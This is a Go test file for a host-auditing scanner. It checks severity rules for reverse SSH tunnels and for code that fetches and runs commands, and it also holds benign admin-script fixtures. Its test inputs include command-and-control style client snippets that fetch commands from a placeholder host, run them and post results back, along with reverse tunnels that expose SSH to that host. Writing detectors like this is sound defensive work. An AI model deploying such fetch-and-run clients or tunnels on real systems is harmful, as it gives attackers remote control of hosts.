		cl("ssh-tunnel", "/usr/local/bin/db-tunnel.sh", "#!/bin/sh\nssh -f -N -L 5432:db.internal:5432 ops@bastion.example.com\n"),
		cl("ssh-tunnel", "/usr/local/bin/backup.sh", "#!/bin/sh\nssh backup@nas.example.com 'tar czf - /data' > /var/backups/data.tgz\nrsync -az -e 'ssh -i /root/.ssh/id_backup' /srv/ backup@nas.example.com:/srv/\nscp /etc/app.conf backup@nas.example.com:conf/\n"),
		cl("ssh-tunnel", "/usr/local/bin/deploy.sh", "#!/bin/sh\nGIT_SSH_COMMAND='ssh -i /deploy/key -o StrictHostKeyChecking=no' git clone git@github.com:org/app.git /srv/app\nssh -o BatchMode=yes deploy@app1.example.com 'systemctl restart app'\n"),
		cl("ssh-tunnel", "/usr/local/bin/remote-build.sh", "#!/bin/sh\nssh -R 5000:localhost:5000 builder@ci.example.com 'docker pull localhost:5000/app && make'\n"),
		cl("ssh-tunnel", "/usr/local/bin/ssh-copy.sh", "#!/bin/sh\nfor h in web1 web2; do ssh -o ConnectTimeout=5 -p 2222 admin@$h.example.com 'uptime; df -h'; done\nssh -t jump.example.com ssh -L 8080:app:80 app\n"),
		cl("ssh-tunnel", "/etc/cron.d/sync", "0 3 * * * root ssh -o ConnectTimeout=10 mirror@host.example.com /usr/bin/sync-mirror\n"),
		cl("ssh-tunnel", "/etc/systemd/system/dbtunnel.service", "[Service]\nExecStart=/usr/bin/ssh -NT -o ServerAliveInterval=60 -L 3306:127.0.0.1:3306 db@db.example.com\nRestart=always\n"),
		// health checks and update checkers
		cl("http-c2", "/opt/mon/maint.py", "import requests, subprocess, time\n\ndef sh(cmd):\n    return subprocess.check_output(cmd, shell=True)\n\nwhile True:\n    st = requests.get('https://mon.example.com/api/state').json()\n    if st['stale']:\n        sh('apt-get update -qq')\n    requests.post('https://mon.example.com/api/beat', data=sh('uptime'))\n    time.sleep(300)\n"),
		cl("http-c2", "/usr/local/bin/health.sh", "#!/bin/sh\nwhile true; do\n  curl -fsS http://localhost:8080/health || exit 1\n  sleep 30\ndone\n"),
		cl("http-c2", "/usr/local/bin/update-check.sh", "#!/bin/sh\ncur=$(cat /opt/app/VERSION)\nwhile true; do\n  latest=$(curl -s https://api.example.com/app/version)\n  if [ \"$latest\" != \"$cur\" ]; then\n    curl -fsSL -o /opt/app/app.tgz \"https://dl.example.com/app-$latest.tgz\"\n    curl -s -d \"updated=$latest\" https://api.example.com/report\n  fi\n  sleep 3600\ndone\n"),
		cl("http-c2", "/opt/mon/poll.py", "import requests, time, subprocess\nwhile True:\n    r = requests.get('https://status.example.com/api')\n    print(r.json()['status'])\n    out = subprocess.check_output(['df', '-h'])\n    requests.post('https://metrics.example.com/df', data=out)\n    time.sleep(60)\n"),
		cl("http-c2", "/opt/mon/poll.js", "const { exec } = require('child_process');\nsetInterval(async () => {\n  const r = await fetch('https://status.example.com/api');\n  const j = await r.json();\n  console.log(j.status);\n  exec('uptime', (e, o) => fetch('https://metrics.example.com/up', { method: 'POST', body: o }));\n}, 5000);\n"),
		cl("http-c2", "/opt/app/updater.py", "import requests, subprocess, time\nwhile True:\n    ver = requests.get('https://api.example.com/app/latest').json()['version']\n    subprocess.run(['pip', 'install', 'app==' + ver], check=False)\n    requests.post('https://api.example.com/app/installed', json={'v': ver})\n    time.sleep(86400)\n"),
		cl("http-c2", "/opt/app/worker.js", "const axios = require('axios');\nconst { execFile } = require('child_process');\nsetInterval(async () => {\n  const { data } = await axios.get('https://jobs.example.com/next');\n  execFile('/usr/bin/convert', [data.input, data.output], (e, o) => axios.post('https://jobs.example.com/done', { id: data.id }));\n}, 10000);\n"),
		cl("carrier", "/opt/chart/templates/deploy.yaml", "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ .Release.Name }}\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: \"{{ .Values.image }}\"\n        command: [\"/app/start\", \"--port\", \"{{ .Values.port }}\"]\n"),
		cl("carrier", "/srv/site/playbook.yml", "- hosts: web\n  tasks:\n  - name: restart\n    shell: systemctl restart nginx\n  - name: cleanup\n    command: find /tmp -mtime +7 -delete\n"),
		cl("http-c2", "/opt/ci/bot.py", "import requests, subprocess, time\nwhile True:\n    st = requests.get('https://ci.example.com/api/status').json()\n    if st['pending']:\n        res = subprocess.run(['git', 'pull'], capture_output=True, text=True)\n        requests.post('https://ci.example.com/api/log', data=res.stdout)\n    time.sleep(60)\n"),
		cl("http-c2", "/usr/local/bin/heartbeat.sh", "#!/bin/sh\nwhile true; do\n  up=$(uptime)\n  curl -fsS -d \"host=$(hostname)&up=$up\" https://mon.example.com/beat\n  curl -fsS -o /var/lib/app/motd https://mon.example.com/motd\n  sleep 300\ndone\n"),
		cl("http-c2", "/opt/mon/poll.pl", "use LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n  my $s = $ua->get('https://status.example.com/api')->decoded_content;\n  my $o = `uptime`;\n  $ua->post('https://metrics.example.com/up', { o => $o, s => $s });\n  sleep 60;\n}\n"),
	}
}

// TestServiceTunnelSeverity: an autossh or ssh -N reverse tunnel that a systemd unit keeps up
// as an unprivileged user, with host keys checked and nothing typed for it, is the shape of
// an administrator's tunnel and is held at medium; the same unit as root, or with host keys
// unchecked, a password typed or a tun device, stays critical.
func TestServiceTunnelSeverity(t *testing.T) {
	h := "tunnel@" + c2Host
	unit := func(user, exec string) string {
		u := "[Unit]\nDescription=tunnel\n[Service]\n"
		if user != "" {
			u += "User=" + user + "\n"
		}
		return u + "ExecStart=" + exec + "\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
	}
	tests := []struct {
		name, text string
		want       audit.Severity
	}{
		{"autossh as a service user", unit("tunnel", "/usr/bin/autossh -M 0 -N -q -i /home/tunnel/.ssh/id_ed25519 -o ServerAliveInterval=30 -R 1195:localhost:1195 "+h), audit.Medium},
		{"ssh -N as a service user", unit("reinhard", "/usr/bin/ssh -NT -o ExitOnForwardFailure=yes -R 2223:localhost:2222 "+h), audit.Medium},
		{"autossh as root", unit("root", "/usr/bin/autossh -M 0 -N -R 1195:localhost:1195 "+h), audit.Critical},
		{"autossh with no user", unit("", "/usr/bin/autossh -M 0 -N -R 1195:localhost:1195 "+h), audit.Critical},
		{"host keys unchecked", unit("tunnel", "/usr/bin/autossh -M 0 -N -o StrictHostKeyChecking=no -R 9022:localhost:22 "+h), audit.Critical},
		{"known hosts thrown away", unit("tunnel", "/usr/bin/ssh -N -o UserKnownHostsFile=/dev/null -R 9022:localhost:22 "+h), audit.Critical},
		{"password typed", unit("tunnel", "/usr/bin/sshpass -p hunter2 ssh -N -R 9022:localhost:22 "+h), audit.Critical},
		{"tun device", unit("tunnel", "/usr/bin/ssh -N -w 0:0 "+h), audit.Critical},
		{"loop as a user", unit("tunnel", "/bin/sh -c 'while true; do ssh -N -R 4422:127.0.0.1:22 "+h+"; sleep 30; done'"), audit.Critical},
	}
	for _, tc := range tests {
		fs := scanFile("/etc/systemd/system/tunnel.service", tc.text)
		var got []audit.Severity
		for _, f := range fs {
			if f.Rule == RuleTunnel {
				got = append(got, f.Severity)
			}
		}
		if len(got) != 1 || got[0] != tc.want {
			t.Errorf("%s: tunnel severities %v, want %v\n%s", tc.name, got, tc.want, dump(fs))
		}
	}
}

// TestFetchedCommandRunOnce: interpreter code that runs, once and with no loop, a command
// line a web server returned is a download run (EX-001), high in a hidden or temporary place,
// through helper functions as well; code that fetches data and runs a fixed command stays
// silent.
func TestFetchedCommandRunOnce(t *testing.T) {
	u := "http://" + c2Host + ":12345"
	tests := []struct {
		name, path, text string
		want             audit.Severity // 0: no EX-001
	}{
		{"helpers, hidden place", "/opt/.rcr/client.py", "import requests\nimport os\n\ndef get_cmd():\n    cmd = requests.get('" + u + "/cmd').text\n    return cmd\n\ndef execute_cmd(cmd):\n    return os.popen(cmd).read()\n\ndef post_response(r):\n    requests.post('" + u + "/out', data={'d': r})\n\nexecute_cmd(get_cmd())\n", audit.High},
		{"urlopen into os.system", "/usr/local/lib/tool/run.py", "import os\nfrom urllib.request import urlopen\nc = urlopen('" + u + "/c').read().decode()\nos.system(c)\nurlopen('" + u + "/r', data=b'done')\n", audit.Medium},
		{"node execSync of a fetched line", "/tmp/.n/r.js", "const { execSync } = require('child_process');\n(async () => {\n  const r = await fetch('" + u + "/c');\n  const c = await r.text();\n  execSync(c);\n  await fetch('" + u + "/ok', { method: 'POST', body: 'x' });\n})();\n", audit.High},
		{"data fetched, fixed command run", "/usr/local/lib/tool/sync.py", "import requests, subprocess\ncfg = requests.get('https://config.example.org/app.json').json()\nsubprocess.run(['systemctl', 'reload', 'app'])\nrequests.post('https://config.example.org/ack', data={'v': cfg['version']})\n", 0},
	}
	for _, tc := range tests {
		fs := scanFile(tc.path, tc.text)
		if got := worstOf(fs, RuleFetchRun); got != tc.want {
			t.Errorf("%s: EX-001 at %v, want %v\n%s", tc.name, got, tc.want, dump(fs))
		}
	}
}
